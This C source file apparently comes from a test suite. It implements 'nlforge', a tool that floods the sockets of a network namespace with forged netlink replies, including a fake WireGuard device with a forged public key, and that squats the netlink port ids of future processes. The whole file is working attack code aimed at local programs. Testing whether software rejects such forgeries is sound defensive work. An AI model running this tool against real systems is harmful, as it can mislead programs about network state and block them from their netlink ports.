// Forges netlink messages, as root in a container can.
//
// A process with CAP_NET_ADMIN over a network namespace may send netlink messages to each socket in
// it (net/netlink/af_netlink.c, netlink_sendmsg). A socket that is connected to the kernel refuses
// them with ECONNREFUSED. Other sockets accept them, and their owners have to tell them from
// answers.
//
//     nlforge [--to-port P] SECONDS
//         forges answers to every NETLINK_ROUTE and NETLINK_GENERIC socket of this namespace, over
//         and over; or only to port P
//     nlforge --squat [--first PID] COUNT SECONDS
//         takes the port ids of COUNT processes to come, from PID, or its own pid + 1; says
//         "squatting N of COUNT from PID" and keeps them
//
// The flood goes to the ports in /proc/net/netlink ("listed"), and now and then to the pids of all
// processes, which are the ports that they ask for ("guessed"). It ends after SECONDS or at SIGTERM
// with one line for each port that took messages, and one for each kind:
//
//     accepted by route port 4711: 1234
//     listed: attempted 90210 accepted 1234 refused 88976 failed 0
//     guessed: attempted 4000 accepted 0 refused 4000 failed 0
//
// Exit status: 0 nothing was accepted (or squatting is over), 1 something was, 2 nothing could be
// tried (no right to send, or port P was never seen), wrong arguments or other trouble.
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <getopt.h>
#include <libmnl/libmnl.h>
#include <linux/genetlink.h>
#include <linux/if_link.h>
#include <linux/rtnetlink.h>
#include <linux/wireguard.h>
#include <net/if.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "common.h"

enum {
    FORGERIES = 10,
    MESSAGE_MAX = 256,
    PORTS_MAX = 256, // more than that are left out of the report
    GUESS_EVERY = 1024,
    WIREGUARD_FAMILY = 0x1f, // as good a guess as any
};

union forgery {
    struct nlmsghdr header;
    char bytes[MESSAGE_MAX];
};

// One protocol: this tool's socket, and the messages that it sends there.
struct front {
    const char *name;
    int protocol;
    int fd;
    uint32_t own_port;
    union forgery forgeries[FORGERIES];
    size_t count;
};

struct tally {
    long attempted;
    long accepted;
    long refused;
    long failed;
};

struct victim {
    const struct front *front;
    uint32_t port;
    long accepted;
};

static struct tally listed, guessed;
static struct victim victims[PORTS_MAX];
static size_t victim_count;
static volatile sig_atomic_t over;

static _Noreturn void usage(void)
{
    fputs("usage: nlforge [--to-port P] SECONDS\n"
          "       nlforge --squat [--first PID] COUNT SECONDS\n",
          stderr);
    exit(TROUBLE);
}

static void finish(int signal)
{
    (void)signal;
    over = 1;
}

static struct nlmsghdr *new_message(struct front *front, uint16_t type, uint16_t flags)
{
    struct nlmsghdr *header = mnl_nlmsg_put_header(front->forgeries[front->count++].bytes);
    header->nlmsg_type = type;
    header->nlmsg_flags = flags;
    return header;
}

static void forge_error(struct front *front, int error)
{
    struct nlmsghdr *header = new_message(front, NLMSG_ERROR, NLM_F_CAPPED);
    struct nlmsgerr *body = mnl_nlmsg_put_extra_header(header, sizeof(*body));
    body->error = error;
}

static void forge_done(struct front *front)
{
    struct nlmsghdr *header = new_message(front, NLMSG_DONE, NLM_F_MULTI);
    int *status = mnl_nlmsg_put_extra_header(header, sizeof(*status));
    *status = 0;
}

static void forge_link(struct front *front, const char *name, const char *kind, int index)
{
    struct nlmsghdr *header = new_message(front, RTM_NEWLINK, 0);
    struct ifinfomsg *link = mnl_nlmsg_put_extra_header(header, sizeof(*link));

    link->ifi_index = index;
    link->ifi_flags = IFF_UP;
    mnl_attr_put_strz(header, IFLA_IFNAME, name);
    struct nlattr *info = mnl_attr_nest_start(header, IFLA_LINKINFO);
    mnl_attr_put_strz(header, IFLA_INFO_KIND, kind);
    mnl_attr_nest_end(header, info);
}

static void forge_address(struct front *front)
{
    struct nlmsghdr *header = new_message(front, RTM_NEWADDR, NLM_F_MULTI);
    struct ifaddrmsg *address = mnl_nlmsg_put_extra_header(header, sizeof(*address));

    *address = (struct ifaddrmsg){.ifa_family = AF_INET, .ifa_prefixlen = 31, .ifa_index = 1};
    mnl_attr_put_u32(header, IFA_LOCAL, htonl(0x0a000000));
}

static struct nlmsghdr *new_generic(struct front *front, uint16_t family, uint8_t command)
{
    struct nlmsghdr *header = new_message(front, family, 0);
    struct genlmsghdr *generic = mnl_nlmsg_put_extra_header(header, sizeof(*generic));
    *generic = (struct genlmsghdr){.cmd = command, .version = 1};
    return header;
}

static void forge_family(struct front *front)
{
    struct nlmsghdr *header = new_generic(front, GENL_ID_CTRL, CTRL_CMD_NEWFAMILY);
    mnl_attr_put_strz(header, CTRL_ATTR_FAMILY_NAME, WG_GENL_NAME);
    mnl_attr_put_u16(header, CTRL_ATTR_FAMILY_ID, WIREGUARD_FAMILY);
}

// Writes a message about a device whose public key is the forger's: 32 times 'F'.
static void forge_device(struct front *front)
{
    struct nlmsghdr *header = new_generic(front, WIREGUARD_FAMILY, WG_CMD_GET_DEVICE);
    char key[WG_KEY_LEN];

    memset(key, 'F', sizeof(key));
    header->nlmsg_flags = NLM_F_MULTI;
    mnl_attr_put_strz(header, WGDEVICE_A_IFNAME, "wg-1-0");
    mnl_attr_put_u32(header, WGDEVICE_A_IFINDEX, 1);
    mnl_attr_put(header, WGDEVICE_A_PUBLIC_KEY, sizeof(key), key);
    mnl_attr_put_u16(header, WGDEVICE_A_LISTEN_PORT, 1);
}

static void forge_all(struct front *front)
{
    forge_error(front, 0);
    forge_error(front, -EPERM);
    forge_error(front, -EEXIST);
    forge_error(front, -ENODEV);
    forge_done(front);
    if (front->protocol == NETLINK_ROUTE) {
        forge_link(front, "wg-1-0", "wireguard", 1);
        forge_link(front, "eth0", "veth", 2);
        forge_address(front);
    } else {
        forge_family(front);
        forge_device(front);
    }
}

static void open_front(struct front *front)
{
    struct sockaddr_nl own = {.nl_family = AF_NETLINK};
    socklen_t size = sizeof(own);

    front->fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC | SOCK_NONBLOCK, front->protocol);
    if (front->fd < 0 || bind(front->fd, (struct sockaddr *)&own, sizeof(own)) != 0 ||
        getsockname(front->fd, (struct sockaddr *)&own, &size) != 0)
        fail(TROUBLE, "netlink socket");
    front->own_port = own.nl_pid;
    forge_all(front);
}

static void note_victim(const struct front *front, uint32_t port)
{
    size_t i = 0;

    while (i < victim_count && (victims[i].front != front || victims[i].port != port))
        i++;
    if (i == PORTS_MAX)
        return;
    if (i == victim_count)
        victims[victim_count++] = (struct victim){.front = front, .port = port};
    victims[i].accepted++;
}

// Returns in turn the sequence numbers that programs like to use.
static uint32_t next_sequence(void)
{
    static uint32_t turn;

    turn++;
    return turn % 2 == 0 ? (uint32_t)time(NULL) + turn / 2 % 4 : turn / 2 % 8;
}

static void send_one(struct front *front, uint32_t port, union forgery *forgery,
                     struct tally *tally)
{
    struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = port};
    struct nlmsghdr *header = &forgery->header;

    header->nlmsg_pid = port;
    header->nlmsg_seq = next_sequence();
    tally->attempted++;
    bool accepted = sendto(front->fd, header, header->nlmsg_len, MSG_DONTWAIT,
                           (struct sockaddr *)&to, sizeof(to)) >= 0 ||
                    errno == EAGAIN; // its queue is full of what it accepted
    if (accepted) {
        tally->accepted++;
        note_victim(front, port);
    } else if (errno == ECONNREFUSED) {
        tally->refused++;
    } else {
        tally->failed++;
    }
}

static void send_all(struct front *front, uint32_t port, struct tally *tally)
{
    if (port == 0 || port == front->own_port)
        return;
    for (size_t i = 0; i < front->count; i++)
        send_one(front, port, &front->forgeries[i], tally);
}

static void flood_listed(struct front *fronts, size_t count, long only)
{
    char line[256];
    FILE *table = fopen("/proc/net/netlink", "re");

    if (table == NULL)
        fail(TROUBLE, "/proc/net/netlink");
    while (fgets(line, sizeof(line), table) != NULL) {
        int protocol;
        uint32_t port;
        if (sscanf(line, "%*s %d %u", &protocol, &port) != 2 || (only != 0 && port != only))
            continue;
        for (size_t i = 0; i < count; i++)
            if (fronts[i].protocol == protocol)
                send_all(&fronts[i], port, &listed);
    }
    fclose(table);
}

static void flood_guessed(struct front *fronts, size_t count, long only)
{
    DIR *processes = opendir("/proc");
    struct dirent *entry;

    if (processes == NULL)
        fail(TROUBLE, "/proc");
    while ((entry = readdir(processes)) != NULL) {
        long pid;
        if (!parse_number(entry->d_name, 1, INT32_MAX, &pid) || (only != 0 && pid != only))
            continue;
        for (size_t i = 0; i < count; i++)
            send_all(&fronts[i], (uint32_t)pid, &guessed);
    }
    closedir(processes);
}

static void print_tally(const char *name, const struct tally *tally)
{
    printf("%s: attempted %ld accepted %ld refused %ld failed %ld\n", name, tally->attempted,
           tally->accepted, tally->refused, tally->failed);
}

static int flood(long seconds, long only)
{
    static struct front fronts[] = {
        {.name = "route", .protocol = NETLINK_ROUTE},
        {.name = "generic", .protocol = NETLINK_GENERIC},
    };
    const size_t count = sizeof(fronts) / sizeof(fronts[0]);
    int64_t end = now_ms() + seconds * 1000;

    for (size_t i = 0; i < count; i++)
        open_front(&fronts[i]);
    for (int turn = 0; !over && now_ms() < end; turn++) {
        flood_listed(fronts, count, only);
        if (turn % GUESS_EVERY == 0)
            flood_guessed(fronts, count, only);
    }

    for (size_t i = 0; i < victim_count; i++)
        printf("accepted by %s port %u: %ld\n", victims[i].front->name, victims[i].port,
               victims[i].accepted);
    print_tally("listed", &listed);
    print_tally("guessed", &guessed);
    if (listed.accepted + guessed.accepted > 0)
        return 1;
    bool tried = listed.refused > 0 || (only == 0 && guessed.refused > 0);
    return tried ? 0 : TROUBLE;
}

static bool take_port(uint32_t port, int protocol)
{
    struct sockaddr_nl own = {.nl_family = AF_NETLINK, .nl_pid = port};
    int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);

    if (fd < 0)
        fail(TROUBLE, "netlink socket");
    if (bind(fd, (struct sockaddr *)&own, sizeof(own)) == 0)
        return true;
    close(fd);
    return false;
}

static int squat(long first, long count, long seconds)
{
    int64_t end = now_ms() + seconds * 1000;
    struct rlimit files;
    long taken = 0;

    getrlimit(RLIMIT_NOFILE, &files);
    files.rlim_cur = files.rlim_max;
    setrlimit(RLIMIT_NOFILE, &files);
    for (long port = first; port < first + count; port++) {
        bool route = take_port((uint32_t)port, NETLINK_ROUTE);
        bool generic = take_port((uint32_t)port, NETLINK_GENERIC);
        taken += route && generic;
    }
    printf("squatting %ld of %ld from %ld\n", taken, count, first);
    fflush(stdout);
    while (!over && now_ms() < end)
        usleep(10000);
    return 0;
}

int main(int argc, char **argv)
{
    static const struct option options[] = {
        {"to-port", required_argument, NULL, 'p'},
        {"squat", no_argument, NULL, 's'},
        {"first", required_argument, NULL, 'f'},
        {NULL, 0, NULL, 0},
    };
    bool squats = false;
    long port = 0, first = getpid() + 1, count = 0, seconds;
    int option;

    while ((option = getopt_long(argc, argv, "", options, NULL)) != -1) {
        bool fits = option == 's';
        squats |= option == 's';
        if (option == 'p')
            fits = parse_number(optarg, 1, UINT32_MAX, &port);
        else if (option == 'f')
            fits = parse_number(optarg, 1, INT32_MAX, &first);
        if (!fits)
            usage();
    }
    if (argc - optind != (squats ? 2 : 1) || (squats && port != 0) ||
        (squats && !parse_number(argv[optind], 1, 100000, &count)) ||
        !parse_number(argv[argc - 1], 1, 3600, &seconds))
        usage();

    struct sigaction action = {.sa_handler = finish};
    sigaction(SIGTERM, &action, NULL);
    sigaction(SIGINT, &action, NULL);
    return squats ? squat(first, count, seconds) : flood(seconds, port);
}
